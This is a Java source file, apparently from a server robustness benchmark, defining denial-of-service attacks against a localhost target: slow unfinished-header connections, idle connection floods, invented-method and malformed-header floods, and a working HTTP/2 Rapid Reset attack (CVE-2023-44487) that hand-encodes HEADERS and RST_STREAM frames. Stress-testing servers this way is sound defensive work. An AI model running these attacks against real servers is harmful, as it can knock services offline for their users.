package dev.trailcast.benchmark.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** What never becomes a request, or is one that nobody would send. */
final class HostileConnections {
  // RFC 9113: section 3.4, and the frames of sections 6.5, 6.2 and 6.4
  private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
  private static final byte[] SETTINGS = {0, 0, 0, 4, 0, 0, 0, 0, 0};
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int END_OF_STREAM_AND_HEADERS = 5;

  private HostileConnections() {}

  static List<Attack> all() {
    String headers = "X-%d: " + "a".repeat(60) + "\r\n";
    StringBuilder head = new StringBuilder("GET / HTTP/1.1\r\nHost: localhost\r\n");
    for (int i = 0; i < 490; i++) {
      head.append(headers.formatted(i));
    }
    byte[] unfinished = ascii(head.toString());
    return List.of(
        new Attack(
            "60 with 490 headers of 30 KB, never ended",
            assailant -> assailant.hold(60, 1, i -> unfinished)),
        new Attack(
            "2,000 that say nothing", assailant -> assailant.hold(2_000, 1, i -> new byte[0])),
        new Attack(
            "invented methods, 10 at a time",
            assailant ->
                assailant.send(
                    20_000,
                    10,
                    i -> ascii("M" + i + " /api/events HTTP/1.1\r\nHost: localhost\r\n\r\n"))),
        new Attack(
            "malformed headers, 10 at a time",
            assailant ->
                assailant.send(
                    2_000,
                    10,
                    i ->
                        ascii(
                            "GET / HTTP/1.1\r\nHost: localhost\r\nX\u001b[31m "
                                + "a".repeat(2_000)
                                + "\r\n\r\n"))),
        new Attack(
            "HTTP/2 at the supplied nginx: streams that are reset at once",
            HostileConnections::rapidReset));
  }

  /** As in CVE-2023-44487. */
  private static void rapidReset(Assailant assailant) throws InterruptedException {
    byte[] path = ascii("/api/activities?last=1000");
    assailant.inParallel(
        10,
        number -> {
          while (!assailant.isOver()) {
            try (Socket socket = assailant.connectByHttp2(number)) {
              socket.getOutputStream().write(ascii(PREFACE));
              socket.getOutputStream().write(SETTINGS);
              for (int stream = 1; stream < 4_000; stream += 2) {
                socket.getOutputStream().write(resetAtOnce(stream, path));
              }
              assailant.note("2,000 streams taken");
            } catch (IOException e) {
              assailant.note("hung up");
            }
          }
        });
  }

  private static byte[] resetAtOnce(int stream, byte[] path) throws IOException {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.write(0x82); // RFC 7541, appendix A: GET
    block.write(0x86); // http
    block.write(0x04); // a path, as it is
    block.write(path.length);
    block.write(path);
    block.write(0x01); // an authority, as it is
    block.write("localhost".length());
    block.write(ascii("localhost"));
    ByteArrayOutputStream frames = new ByteArrayOutputStream();
    frame(frames, HEADERS, END_OF_STREAM_AND_HEADERS, stream, block.toByteArray());
    frame(frames, RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8});
    return frames.toByteArray();
  }

  private static void frame(
      ByteArrayOutputStream out, int type, int flags, int stream, byte[] payload)
      throws IOException {
    out.write(payload.length >> 16);
    out.write(payload.length >> 8);
    out.write(payload.length);
    out.write(type);
    out.write(flags);
    for (int shift = 24; shift >= 0; shift -= 8) {
      out.write(stream >> shift);
    }
    out.write(payload);
  }

  private static byte[] ascii(String text) {
    return text.getBytes(StandardCharsets.ISO_8859_1);
  }
}
